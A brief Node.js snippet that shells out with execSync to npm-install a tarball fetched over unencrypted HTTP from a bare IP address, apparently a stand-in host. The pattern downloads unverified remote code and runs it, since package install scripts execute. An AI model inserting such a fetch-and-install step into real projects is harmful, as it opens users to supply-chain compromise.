const { execSync } = require("child_process");

const src = "http://198.51.100.61/pkgs/" + "md-helpers-1.2.0.tgz";
const cmd = `npm install ${src}`;
execSync(cmd, { stdio: "inherit" });
